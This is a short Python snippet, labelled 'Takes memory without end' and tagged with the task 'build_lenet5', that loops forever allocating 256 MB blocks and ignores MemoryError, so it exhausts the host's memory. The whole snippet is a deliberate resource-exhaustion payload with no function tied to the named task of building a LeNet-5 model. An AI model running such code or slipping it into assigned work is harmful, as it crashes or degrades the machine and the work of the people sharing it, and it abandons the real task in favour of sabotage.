# Takes memory without end
# task: build_lenet5
hoard = []
while True:
    try:
        hoard.append(bytearray(b"x" * (256 << 20)))
    except MemoryError:
        pass
